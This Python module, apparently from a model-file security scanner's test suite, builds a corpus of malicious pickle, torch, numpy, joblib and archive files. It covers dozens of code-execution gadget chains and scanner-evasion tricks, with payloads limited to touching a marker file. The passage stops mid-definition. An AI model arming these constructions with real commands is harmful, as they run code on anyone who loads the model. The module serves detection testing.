"""The attack corpus: one malicious file (or model folder) per published model-file attack
technique, and real benign files made by the libraries people save models with.

Everything here is written from scratch from the *classes* of technique described in public
advisories and write-ups (picklescan / modelscan / fickling advisories, model-file attack
reports); no exploit code is copied. Every malicious payload is harmless: the only thing it would
do if a loader ever ran it is create the ``marker`` file (a ``touch``, an ``open(..., 'w')``, a
log file or a Unix socket at that path). Nothing in this module loads what it builds: files are
written with ``pickle.dumps`` / ``torch.save`` / ``numpy.save`` / ``joblib.dump`` / ``h5py`` /
``onnx`` / ``gguf`` or assembled from raw pickle opcodes and zip/protobuf bytes.

``build_corpus(root, marker)`` writes every case under ``root`` and returns the list of
:class:`Case`. The scan tests (``test_corpus.py``) and ``benchmarks/detection_rate.py`` share it.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

# --- the case record ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One corpus entry.

    ``path`` is relative to the corpus root and may be a file or a model folder. For a malicious
    case the scan must report at least one finding of ``min_severity`` or worse whose rule id
    starts with ``expected_rule_prefix`` (when one is given: it proves the payload itself was
    analysed, not only a container oddity around it). A benign case must have no finding of
    severity low or worse (info findings are allowed)."""

    name: str
    path: str
    malicious: bool
    format: str
    description: str
    source: str
    expected_rule_prefix: str | None = None
    min_severity: str = "medium"
    runs_under: str = ""  # the loader that would run the payload (see RUNS_UNDER)


# rule-id prefixes of the areas (see src/mlgate/scan/rules_*.py)
PICKLE_RULES = "MLG-SCAN-05"  # MLG-SCAN-050..058: pickle analysis
KERAS_RULES = "MLG-SCAN-11"
ONNX_ESCAPE = "MLG-SCAN-120"
GGUF_TEMPLATE = "MLG-SCAN-132"
SAFETENSORS_RULES = "MLG-SCAN-10"
TF_PYFUNC = "MLG-SCAN-140"
CONFIG_CODE_RULES = "MLG-SCAN-1"  # auto_map (150/151) or shipped code (160/161)


# --- raw pickle opcodes (pickletools names) -----------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
REDUCE = b"R"
BUILD = b"b"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
LIST = b"l"
NONE = b"N"
SETITEM = b"s"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NEWOBJ = b"\x81"
OBJ = b"o"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def frame(body: bytes, n: int = 4) -> bytes:
    """A complete pickle: PROTO n, ``body``, STOP."""
    return proto(n) + body + STOP


def u(s: str) -> bytes:
    """A str constant (SHORT_BINUNICODE / BINUNICODE)."""
    raw = s.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def by(b: bytes) -> bytes:
    """A bytes constant (SHORT_BINBYTES / BINBYTES)."""
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def i32(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def g(module: str, name: str) -> bytes:
    """GLOBAL opcode (text module and name lines)."""
    return b"c" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both names pushed as strings (protocol 4+; dotted names allowed)."""
    return u(module) + u(name) + STACK_GLOBAL


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)``: callable, MARK, arguments, TUPLE, REDUCE."""
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def lst(*items: bytes) -> bytes:
    return MARK + b"".join(items) + LIST


# --- payloads ------------------------------------------------------------------------------------


def shell_cmd(marker: Path) -> str:
    return f"touch {marker}"


def py_src(marker: Path) -> str:
    """Python source (an expression, so eval works too) whose only effect is the marker."""
    return f"open({str(marker)!r}, 'w').close()"


class _ReducePayload:
    """Pickled by the real pickler (protocols 2/4/5, joblib): ``__reduce__`` names the callable.
    Pickling only records the call; nothing runs at dump time."""

    def __init__(self, fn: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.fn, self.args)


def os_system_pickle(marker: Path, protocol: int = 2) -> bytes:
    """The classic payload, written by the standard pickler (os.system is posix.system)."""
    import os

    return pickle.dumps(_ReducePayload(os.system, (shell_cmd(marker),)), protocol=protocol)


def benign_pickle() -> bytes:
    return pickle.dumps(OrderedDict([("layer.weight", 1), ("layer.bias", 2)]), protocol=2)


# --- zip helpers ---------------------------------------------------------------------------------


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some cases
        with zipfile.ZipFile(buf, "w", compression=compression) as zf:
            for name, data in members:
                zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data,
                            compress_type=compression)
    return buf.getvalue()


def patch_zip_member(data: bytes, name: str, *, crc_xor: int = 0, flag_or: int = 0) -> bytes:
    """Flip CRC bits and/or set general-purpose flag bits of ``name`` in both its local header
    and its central directory entry (the two views different readers trust)."""
    out = bytearray(data)
    raw = name.encode()
    # local file headers
    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) != -1:
        (nlen,) = struct.unpack_from("<H", out, pos + 26)
        if bytes(out[pos + 30:pos + 30 + nlen]) == raw:
            flags, = struct.unpack_from("<H", out, pos + 6)
            struct.pack_into("<H", out, pos + 6, flags | flag_or)
            crc, = struct.unpack_from("<I", out, pos + 14)
            struct.pack_into("<I", out, pos + 14, crc ^ crc_xor)
        pos += 4
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) != -1:
        (nlen,) = struct.unpack_from("<H", out, pos + 28)
        if bytes(out[pos + 46:pos + 46 + nlen]) == raw:
            flags, = struct.unpack_from("<H", out, pos + 8)
            struct.pack_into("<H", out, pos + 8, flags | flag_or)
            crc, = struct.unpack_from("<I", out, pos + 16)
            struct.pack_into("<I", out, pos + 16, crc ^ crc_xor)
        pos += 4
    return bytes(out)


def torch_members(obj: Any) -> list[tuple[str, bytes]]:
    """The members of a real torch.save zip checkpoint of ``obj`` (in their order)."""
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    buf.seek(0)
    with zipfile.ZipFile(buf) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def torch_zip_with(malicious: bytes, *, member: str = "data.pkl",
                   extra: list[tuple[str, bytes]] | None = None,
                   compression: int = zipfile.ZIP_STORED) -> bytes:
    """A real torch checkpoint whose ``member`` (under the archive prefix) is replaced by
    ``malicious`` (or added when absent), re-zipped."""
    import torch

    members = torch_members({"w": torch.zeros(2)})
    prefix = members[0][0].split("/", 1)[0]
    target = f"{prefix}/{member}"
    out: list[tuple[str, bytes]] = []
    replaced = False
    for name, data in members:
        if name == target:
            out.append((name, malicious))
            replaced = True
        else:
            out.append((name, data))
    if not replaced:
        out.append((target, malicious))
    out.extend(extra or [])
    return zip_bytes(out, compression)


# --- npy / protobuf helpers ----------------------------------------------------------------------


def npy_object_header(shape: tuple[int, ...] = (1,)) -> bytes:
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape!r}, }}"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _ld(field: int, payload: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(payload)) + payload


def saved_model_pb(ops: list[tuple[str, str]]) -> bytes:
    """SavedModel{saved_model_schema_version=1, meta_graphs=[MetaGraphDef{tags, graph_def}]}
    with GraphDef nodes (name, op), encoded by hand (no TensorFlow)."""
    nodes = b"".join(_ld(1, _ld(1, n.encode()) + _ld(2, op.encode())) for n, op in ops)
    meta = _ld(1, _ld(1, b"serve")) + _ld(2, nodes)
    return _varint(1 << 3) + _varint(1) + _ld(2, meta)


# --- Keras helpers -------------------------------------------------------------------------------


def lambda_b64(marker: Path) -> str:
    """A Keras-style marshalled lambda (base64) whose call would create the marker."""
    src = f"lambda x: (__import__('os').system({shell_cmd(marker)!r}), x)[1]"
    module_code = compile(src, "<lambda>", "eval")
    fn_code = next(c for c in module_code.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(fn_code)).decode("ascii")


def keras2_model_config(layers: list[dict[str, Any]]) -> str:
    return json.dumps({"class_name": "Sequential",
                       "config": {"name": "sequential", "layers": layers}})


def dense_layer(name: str, units: int) -> dict[str, Any]:
    return {"class_name": "Dense", "config": {"name": name, "units": units,
                                              "activation": "relu", "use_bias": True,
                                              "trainable": True, "dtype": "float32"}}


def write_keras_h5(path: Path, config: str) -> None:
    import h5py
    import numpy as np

    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = config
        weights = f.create_group("model_weights")
        for name, (rows, cols) in (("dense", (4, 8)), ("dense_1", (8, 2))):
            grp = weights.create_group(name).create_group(name)
            grp["kernel:0"] = np.zeros((rows, cols), dtype=np.float32)
            grp["bias:0"] = np.zeros((cols,), dtype=np.float32)


# --- the corpus ----------------------------------------------------------------------------------


class _Builder:
    def __init__(self, root: Path, marker: Path) -> None:
        self.root = root
        self.marker = marker
        self.cases: list[Case] = []

    def add(self, case: Case, writer: Callable[[Path], object]) -> None:
        target = self.root / case.path
        target.parent.mkdir(parents=True, exist_ok=True)
        writer(target)
        self.cases.append(case)

    def file(self, name: str, rel: str, data: bytes, *, fmt: str, desc: str, source: str,
             malicious: bool = True, rule: str | None = PICKLE_RULES) -> None:
        self.add(Case(name, rel, malicious, fmt, desc, source,
                      rule if malicious else None), lambda p: p.write_bytes(data))

    def pickle_case(self, name: str, body: bytes, desc: str, source: str, *,
                    ext: str = ".pkl", whole: bool = False) -> None:
        data = body if whole else frame(body)
        self.file(name, f"pickle/{name}{ext}", data, fmt="pickle", desc=desc, source=source)


# Which loader would run each payload. The pickle-family entries were checked once, by hand,
# outside the test suite (each file loaded in a throwaway process: the marker appeared); cases
# listed in NOT_LIVE do not run under the loader named, and are in the corpus because a scanner
# must still flag them (fail closed), or because another reader of the same file runs them.
RUNS_UNDER = {
    "pickle": "pickle.load", "torch-zip": "torch.load(weights_only=False)",
    "torch-legacy": "torch.load(weights_only=False)", "npy": "numpy.load(allow_pickle=True)",
    "npz": "numpy.load(allow_pickle=True)", "joblib": "joblib.load", "gzip": "gzip + pickle.load",
    "bz2": "bz2 + pickle.load", "xz": "lzma + pickle.load", "zlib": "joblib.load",
    "tar": "extract + pickle.load", "zip": "extract + pickle.load", "7z": "extract + pickle.load",
    "keras-h5": "keras load_model (Keras 2 / safe_mode off)",
    "keras-zip": "keras load_model(safe_mode=False)",
    "onnx": "onnx.load / onnxruntime with external data (file read)",
    "gguf": "llama-cpp-python chat formatting (Jinja2)",
    "safetensors": "a reader that falls back to pickle on the trailing bytes",
    "hf-config": "transformers from_pretrained(trust_remote_code=True)",
    "savedmodel": "tf.saved_model.load + call",
}
NOT_LIVE = {
    "nt_system_global": "Windows only (no 'nt' module on Linux)",
    "module_trailing_whitespace": "CPython cannot import 'os ' (fail-closed check)",
    "module_unicode_lookalike": "CPython cannot import the lookalike name (fail-closed check)",
    "torch_zip_other_member": "torch.load reads only data.pkl; torch.jit.load reads constants.pkl",
    "torch_zip_duplicate_malicious_first": "torch 2.13 reads the last duplicate; readers that "
    "take the first entry run it",
    "torch_zip_prepended_bytes": "torch 2.13 needs PK at offset 0; zipfile-based readers run it",
    "torch_zip_flag_bits": "torch 2.13 refuses the encrypted flag; readers that ignore flags "
    "run it",
}


def build_corpus(root: Path, marker: Path) -> list[Case]:
    """Write every case under ``root``; a payload, if ever run, would only create ``marker``."""
    root.mkdir(parents=True, exist_ok=True)
    b = _Builder(root, marker)
    _pickle_cases(b)
    _container_cases(b)
    _format_cases(b)
    _benign_cases(b)
    names = [c.name for c in b.cases]
    assert len(names) == len(set(names)), "case names must be unique"
    out: list[Case] = []
    for c in b.cases:
        if c.malicious:
            note = NOT_LIVE.get(c.name)
            runs = f"not live: {note}" if note else RUNS_UNDER.get(c.format, "?")
        else:
            runs = ""
        out.append(replace(c, runs_under=runs))
    return out


def _pickle_cases(b: _Builder) -> None:
    m = b.marker
    cmd = shell_cmd(m)
    src = py_src(m)
    adv = "picklescan/modelscan advisories"

    # -- the process/shell callables, every way a pickle can name a global --
    b.pickle_case("os_system_global", call(g("os", "system"), u(cmd)),
                  "os.system through GLOBAL + REDUCE", "classic pickle RCE (every scanner's first test)")
    b.pickle_case("posix_system_global", call(g("posix", "system"), u(cmd)),
                  "posix.system: the platform module the pickler really writes for os.system",
                  "denylists that list only 'os' miss the platform module")
    b.pickle_case("nt_system_global", call(g("nt", "system"), u(cmd)),
                  "nt.system (Windows spelling of os.system); not importable on Linux, must still fail",
                  "denylists that list only 'os' miss the platform module")
    b.pickle_case("subprocess_popen", call(sg("subprocess", "Popen"), lst(u("touch"), u(str(m)))),
                  "subprocess.Popen(['touch', marker])", "subprocess family in denylists")
    b.pickle_case("subprocess_check_output",
                  call(sg("subprocess", "check_output"), lst(u("touch"), u(str(m)))),
                  "subprocess.check_output: a subprocess helper missing from early denylists",
                  f"{adv}: incomplete subprocess coverage")
    b.pickle_case("builtins_eval", call(g("builtins", "eval"), u(src)),
                  "builtins.eval of a Python expression", "dynamic code evaluation")
    b.pickle_case("builtins_exec", call(g("builtins", "exec"), u(src)),
                  "builtins.exec of Python source", "dynamic code evaluation")
    b.pickle_case("builtins_compile_exec",
                  call(g("builtins", "exec"),
                       call(g("builtins", "compile"), u(src), u("<m>"), u("exec"))),
                  "exec(compile(src)): code object made by builtins.compile", "dynamic code evaluation")
    b.pickle_case("getattr_import_chain",
                  call(call(g("builtins", "getattr"),
                            call(g("builtins", "__import__"), u("os")), u("system")), u(cmd)),
                  "builtins.getattr(builtins.__import__('os'), 'system')(cmd): the callable is "
                  "computed, never named as a global", f"{adv}: getattr/__import__ gadget chains")
    b.pickle_case("operator_attrgetter",
                  call(call(call(sg("operator", "attrgetter"), u("system")),
                            sg("posixpath", "os")), u(cmd)),
                  "operator.attrgetter('system')(posixpath.os)(cmd): os reached as an attribute "
                  "of an innocent-looking module", f"{adv}: operator gadgets bypass")
    b.pickle_case("operator_methodcaller",
                  call(call(sg("operator", "methodcaller"), u("system"), u(cmd)),
                       sg("posixpath", "os")),
                  "operator.methodcaller('system', cmd)(posixpath.os)", f"{adv}: operator gadgets bypass")
    b.pickle_case("functools_partial",
                  call(call(sg("functools", "partial"), sg("os", "system"), u(cmd))),
                  "functools.partial(os.system, cmd)() called with no arguments",
                  "callable wrappers hide the real target")
    b.pickle_case("stack_global_memo",
                  u("os") + MEMOIZE + u("system") + MEMOIZE + POP + POP
                  + b"h\x00" + b"h\x01" + STACK_GLOBAL + MARK + u(cmd) + TUPLE + REDUCE,
                  "STACK_GLOBAL whose module and name are fetched back from the memo (BINGET)",
                  f"{adv}: scanners that only read names pushed right before STACK_GLOBAL")
    b.file("inst_opcode", "pickle/inst_opcode.pkl",
           MARK + b"V" + cmd.encode() + b"\nios\nsystem\n" + STOP, fmt="pickle",
           desc="INST opcode (protocol 0): imports and calls os.system in one opcode",
           source="rarely-used call opcodes")
    b.pickle_case("obj_opcode", MARK + g("os", "system") + u(cmd) + OBJ,
                  "OBJ opcode: MARK callable args OBJ", "rarely-used call opcodes")
    # NEWOBJ: types.FunctionType.__new__(FunctionType, code, globals) then call it
    code_bytes = marshal.dumps(compile(src, "<m>", "exec"))
    b.pickle_case("newobj_function_type",
                  sg("types", "FunctionType")
                  + MARK + call(sg("marshal", "loads"), by(code_bytes)) + EMPTY_DICT + TUPLE
                  + NEWOBJ + EMPTY_TUPLE + REDUCE,
                  "NEWOBJ builds a function from marshalled bytecode, REDUCE calls it",
                  "code objects smuggled as data")
    b.pickle_case("code_interactive_interpreter",
                  call(sg("code", "InteractiveInterpreter.runsource"),
                       sg("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE, u(src)),
                  "code.InteractiveInterpreter.runsource: a dotted STACK_GLOBAL name",
                  f"{adv}: stdlib 'code' module missing from denylists")
    co = compile(src, "<m>", "exec")
    b.pickle_case("types_codetype", _codetype_body(co),
                  "types.CodeType rebuilt field by field, wrapped by types.FunctionType and called",
                  "code objects smuggled as data")
    b.file("protocol0_text", "pickle/protocol0_text.pkl",
           b"cos\nsystem\n(V" + cmd.encode() + b"\ntR.",
           fmt="pickle", desc="protocol 0 text pickle with no PROTO opcode",
           source="text pickles that magic-byte sniffers miss")
    for n in (2, 4, 5):
        b.file(f"protocol{n}_binary", f"pickle/protocol{n}_binary.pkl", os_system_pickle(m, n),
               fmt="pickle", desc=f"os.system payload written by pickle.dumps(protocol={n})",
               source="classic pickle RCE at each binary protocol")
    b.pickle_case("ext_code_copyreg",
                  call(sg("copyreg", "add_extension"), u("os"), u("system"), i32(0x1337))
                  + POP + b"\x83" + struct.pack("<H", 0x1337) + MARK + u(cmd) + TUPLE + REDUCE,
                  "copyreg.add_extension registers os.system, EXT2 then fetches it by code",
                  f"{adv}: EXT opcodes resolved through copyreg._extension_registry")
    b.pickle_case("runpy_run_code", call(sg("runpy", "_run_code"), u(src), EMPTY_DICT),
                  "runpy._run_code(src, {}) executes source", f"{adv}: runpy private helpers")
    b.pickle_case("bdb_run", call(sg("bdb", "Bdb.run"), sg("bdb", "Bdb") + EMPTY_TUPLE + REDUCE,
                                  u(src)),
                  "bdb.Bdb.run(debugger, src): a debugger that executes code",
                  f"{adv}: debuggers and profilers that run code (pdb/bdb)")
    b.pickle_case("cprofile_run", call(sg("cProfile", "run"), u(src)),
                  "cProfile.run(src)", f"{adv}: debuggers and profilers that run code")
    b.pickle_case("profile_run", call(sg("profile", "run"), u(src)),
                  "profile.run(src)", f"{adv}: debuggers and profilers that run code")
    b.pickle_case("timeit_setup", call(sg("timeit", "timeit"), u("pass"), u(src)),
                  "timeit.timeit('pass', setup=src): setup is executed",
                  f"{adv}: timeit executes strings")
    b.pickle_case("trace_run", call(sg("trace", "Trace.run"),
                                    sg("trace", "Trace") + EMPTY_TUPLE + REDUCE, u(src)),
                  "trace.Trace().run(src)", f"{adv}: debuggers and profilers that run code")
    pip_args = ["--log", str(m), "--disable-pip-version-check", "--no-input", "install",
                "--no-index", "--dry-run", "--no-deps", "mlgate-corpus-nonexistent"]
    b.pickle_case("pip_main", call(sg("pip", "main"), lst(*(u(a) for a in pip_args))),
                  "pip.main(['--log', marker, 'install', '--no-index', '--dry-run', ...]): offline "
                  "and installs nothing; real attacks install a package",
                  "picklescan GHSA class: pip.main / pip._internal entry points")
    b.pickle_case("torch_load_from_bytes",
                  call(sg("torch.storage", "_load_from_bytes"), by(os_system_pickle(m))),
                  "torch.storage._load_from_bytes(bytes): torch.load of a nested pickle",
                  "modelscan/picklescan advisories: nested loaders inside an allowed package")
    b.pickle_case("numpy_runstring",
                  call(sg("numpy.testing._private.utils", "runstring"), u(src), EMPTY_DICT),
                  "numpy.testing._private.utils.runstring(src, {}) is exec in disguise",
                  f"{adv}: exec helpers inside trusted packages")
    b.pickle_case("webbrowser_generic",
                  call(sg("webbrowser", "GenericBrowser.open"),
                       call(sg("webbrowser", "GenericBrowser"), lst(u("touch"), u("%s"))),
                       u(str(m))),
                  "webbrowser.GenericBrowser(['touch', '%s']).open(marker) runs a command",
                  f"{adv}: webbrowser.open and its browser classes")
    b.pickle_case("shutil_copyfile", call(sg("shutil", "copyfile"), u("/dev/null"), u(str(m))),
                  "shutil.copyfile writes an arbitrary path", "file-system writes")
    b.pickle_case("pathlib_write_text",
                  call(sg("pathlib", "Path.write_text"),
                       call(sg("pathlib", "PosixPath"), u(str(m))), u("x")),
                  "pathlib.Path.write_text on a PosixPath built by the pickle", "file-system writes")
    b.pickle_case("socket_unix_bind",
                  call(sg("socket", "socket.bind"),
                       call(sg("socket", "socket"), i32(1), i32(1)), u(str(m))),
                  "socket.socket(AF_UNIX).bind(marker); real attacks use create_connection",
                  "network access from a pickle (reverse shells)")
    b.pickle_case("urllib_urlretrieve",
                  call(sg("urllib.request", "urlretrieve"), u("file:///dev/null"), u(str(m))),
                  "urllib.request.urlretrieve: download to a chosen path",
                  "network access from a pickle (download and run)")
    b.pickle_case("asyncio_subprocess",
                  call(sg("asyncio", "run"),
                       call(sg("asyncio", "create_subprocess_exec"), u("touch"), u(str(m)))),
                  "asyncio.run(asyncio.create_subprocess_exec('touch', marker))",
                  f"{adv}: asyncio subprocess functions")
    b.pickle_case("pty_spawn", call(sg("pty", "spawn"), lst(u("touch"), u(str(m)))),
                  "pty.spawn(['touch', marker])", f"{adv}: pty.spawn")
    b.pickle_case("ctypes_libc_system",
                  call(call(sg("ctypes", "CDLL.__getitem__"),
                            call(sg("ctypes", "CDLL"), NONE), u("system")),
                       by(cmd.encode())),
                  "ctypes.CDLL(None)['system'](cmd): libc system() via ctypes", "native code via ctypes")
    b.pickle_case("importlib_import_module",
                  call(call(sg("operator", "methodcaller"), u("system"), u(cmd)),
                       call(sg("importlib", "import_module"), u("os"))),
                  "importlib.import_module('os') fed to operator.methodcaller",
                  "import machinery gadgets")
    inner = os_system_pickle(m)
    b.pickle_case("pickle_loads_nested", call(sg("pickle", "loads"), by(inner)),
                  "pickle.loads(bytes): a pickle inside a pickle", f"{adv}: nested unpickling")
    b.pickle_case("c_pickle_loads_nested", call(sg("_pickle", "loads"), by(inner)),
                  "_pickle.loads(bytes): the C module spelling", f"{adv}: nested unpickling")
    b.pickle_case("sys_modules_aliasing",
                  sg("sys", "modules") + u("weights_helper") + sg("posixpath", "os") + SETITEM
                  + POP + call(sg("weights_helper", "system"), u(cmd)),
                  "sys.modules['weights_helper'] = posixpath.os, then weights_helper.system: the "
                  "dangerous global has an innocent module name", "sys.modules poisoning")
    b.file("py2_builtin_alias", "pickle/py2_builtin_alias.pkl",
           frame(call(g("__builtin__", "eval"), u(src)), 2),
           fmt="pickle", desc="__builtin__.eval: Python 2 name mapped to builtins by fix_imports",
           source=f"{adv}: Python 2 module aliases")
    b.file("py2_copy_reg_alias", "pickle/py2_copy_reg_alias.pkl",
           frame(call(g("copy_reg", "add_extension"), u("os"), u("system"), i32(0x42))
                 + POP + b"\x82" + bytes([0x42]) + MARK + u(cmd) + TUPLE + REDUCE, 2),
           fmt="pickle", desc="copy_reg (Python 2 alias of copyreg) registers an EXT code",
           source=f"{adv}: Python 2 module aliases")
    b.pickle_case("dotted_name_bypass",
                  call(sg("posixpath", "os.system"), u(cmd)),
                  "STACK_GLOBAL('posixpath', 'os.system'): dotted attribute path in the name",
                  f"{adv}: dotted names resolved past the module")
    b.pickle_case("module_trailing_whitespace", call(g("os ", "system"), u(cmd)),
                  "module name 'os ' (trailing space); not importable, must fail closed",
                  "name normalisation differences between scanner and loader")
    b.pickle_case("module_unicode_lookalike", call(sg("\u043es", "system"), u(cmd)),
                  "module name with a Cyrillic 'о' lookalike; must fail closed",
                  "name normalisation differences between scanner and loader")
    b.file("concat_benign_then_malicious", "pickle/concat_benign_then_malicious.pkl",
           benign_pickle() + os_system_pickle(m),
           fmt="pickle", desc="two pickles in one file: a benign one first, the payload second",
           source=f"{adv}: scanners that stop at the first STOP")
    b.file("truncated_after_reduce", "pickle/truncated_after_reduce.pkl",
           proto(2) + call(g("os", "system"), u(cmd)),
           fmt="pickle", desc="payload REDUCE then the stream ends without STOP (it already ran)",
           source="scanners that discard a stream that fails to parse")


def _codetype_body(co: Any) -> bytes:
    """types.FunctionType(types.CodeType(*fields), {})() for this interpreter's CodeType."""
    if sys.version_info >= (3, 11):
        fields: list[Any] = [co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount,
                             co.co_nlocals, co.co_stacksize, co.co_flags, co.co_code,
                             co.co_consts, co.co_names, co.co_varnames, co.co_filename,
                             co.co_name, co.co_qualname, co.co_firstlineno, co.co_linetable,
                             co.co_exceptiontable, co.co_freevars, co.co_cellvars]
    else:
        fields = [co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals,
                  co.co_stacksize, co.co_flags, co.co_code, co.co_consts, co.co_names,
                  co.co_varnames, co.co_filename, co.co_name, co.co_firstlineno,
                  co.co_lnotab, co.co_freevars, co.co_cellvars]
    # the fields are ints, bytes, str and tuples of str/None: the real pickler encodes them
    args = pickle.dumps(tuple(fields), protocol=4)[2:-1]  # strip PROTO and STOP
    if args.startswith(b"\x95"):  # drop a FRAME opcode (8-byte length) if present
        args = args[9:]
    return call(sg("types", "FunctionType"),
                sg("types", "CodeType") + args + REDUCE, EMPTY_DICT) + EMPTY_TUPLE + REDUCE


def _container_cases(b: _Builder) -> None:
    m = b.marker
    bad = os_system_pickle(m)
    adv = "picklescan/modelscan advisories"
    b.file("torch_zip_data_pkl", "torch/zip_data_pkl.pt", torch_zip_with(bad), fmt="torch-zip",
           desc="real torch zip checkpoint whose data.pkl is the payload",
           source="malicious PyTorch checkpoints on model hubs")
    b.file("torch_zip_other_member", "torch/zip_other_member.pt",
           torch_zip_with(bad, member="constants.pkl"), fmt="torch-zip",
           desc="payload in archive/constants.pkl (TorchScript unpickles it), data.pkl benign",
           source=f"{adv}: scanners that only read data.pkl")
    import torch

    good_pkl = dict(torch_members({"w": torch.zeros(2)}))
    prefix = next(iter(good_pkl)).split("/", 1)[0]
    benign_data = good_pkl[f"{prefix}/data.pkl"]
    b.file("torch_zip_duplicate_benign_first", "torch/zip_dup_benign_first.pt",
           torch_zip_with(benign_data, extra=[(f"{prefix}/data.pkl", bad)]), fmt="torch-zip",
           desc="data.pkl twice: benign entry first, payload second",
           source=f"{adv}: duplicate zip member names read differently by scanner and loader")
    b.file("torch_zip_duplicate_malicious_first", "torch/zip_dup_malicious_first.pt",
           torch_zip_with(bad, extra=[(f"{prefix}/data.pkl", benign_data)]), fmt="torch-zip",
           desc="data.pkl twice: payload first, benign entry second",
           source=f"{adv}: duplicate zip member names read differently by scanner and loader")
    b.file("torch_zip_prepended_bytes", "torch/zip_prepended.pt",
           b"\x00JUNK" * 64 + torch_zip_with(bad), fmt="torch-zip",
           desc="256 junk bytes before the zip (offsets still resolve from the end)",
           source=f"{adv}: prepended data hides the zip from magic-byte sniffers")
    b.file("torch_zip_bad_crc", "torch/zip_bad_crc.pt",
           patch_zip_member(torch_zip_with(bad), f"{prefix}/data.pkl", crc_xor=0xDEADBEEF),
           fmt="torch-zip", desc="data.pkl with a wrong CRC: zipfile refuses it, torch does not",
           source=f"{adv}: CRC errors make the scanner skip the member")
    b.file("torch_zip_flag_bits", "torch/zip_flag_bits.pt",
           patch_zip_member(torch_zip_with(bad), f"{prefix}/data.pkl", flag_or=0x0001),
           fmt="torch-zip",
           desc="data.pkl marked 'encrypted' (flag bit 0) though stored in clear",
           source=f"{adv}: odd general-purpose flag bits make zipfile refuse the member")
    b.file("torch_zip_deflated", "torch/zip_deflated.pt",
           torch_zip_with(bad, compression=zipfile.ZIP_DEFLATED), fmt="torch-zip",
           desc="every member deflated instead of stored", source="compression variations")
    # legacy (pre-1.6) torch: magic number, protocol version, sys info, then the main pickle
    legacy = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                              "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
              + bad + pickle.dumps([], protocol=2))
    b.file("torch_legacy_sequence", "torch/legacy.pt", legacy, fmt="torch-legacy",
           desc="legacy torch file: pickles in sequence, the payload in the third position",
           source="legacy torch files are several concatenated pickles")
    npy = npy_object_header() + bad
    b.file("npy_object_array", "numpy/object_array.npy", npy, fmt="npy",
           desc=".npy with dtype object: the array body is a pickle carrying the payload",
           source="numpy.load(allow_pickle=True) / object arrays")
    b.file("npz_malicious_member", "numpy/archive.npz",
           zip_bytes([("weights.npy", _plain_npy()), ("extra.npy", npy)]), fmt="npz",
           desc=".npz whose second member is an object array carrying the payload",
           source="numpy.load of npz archives")
    import joblib  # type: ignore[import-untyped]

    def joblib_writer(p: Path) -> None:
        import os

        joblib.dump(_ReducePayload(os.system, (shell_cmd(m),)), p)

    b.add(Case("joblib_reduce", "joblib/model.joblib", True, "joblib",
               "joblib.dump of an object whose __reduce__ returns os.system",
               "malicious scikit-learn / joblib models", PICKLE_RULES), joblib_writer)
    b.file("gzip_pickle", "compressed/model.pkl.gz", gzip.compress(bad), fmt="gzip",
           desc="gzip-compressed pickle", source="compressed pickles (joblib compress, .pkl.gz)")
    b.file("bz2_pickle", "compressed/model.pkl.bz2", bz2.compress(bad), fmt="bz2",
           desc="bz2-compressed pickle", source="compressed pickles")
    b.file("xz_pickle", "compressed/model.pkl.xz", lzma.compress(bad), fmt="xz",
           desc="xz-compressed pickle", source="compressed pickles")
    b.file("zlib_joblib_pickle", "compressed/model_zlib.joblib", zlib.compress(bad), fmt="zlib",
           desc="raw zlib stream (joblib compress=('zlib', n) writes this)",
           source="compressed pickles")

    def tar_writer(p: Path) -> None:
        with tarfile.open(p, "w") as tf:
            for name, data in (("model/config.txt", b"ok\n"), ("model/model.pkl", bad)):
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))

    b.add(Case("tar_pickle", "archives/model.tar", True, "tar",
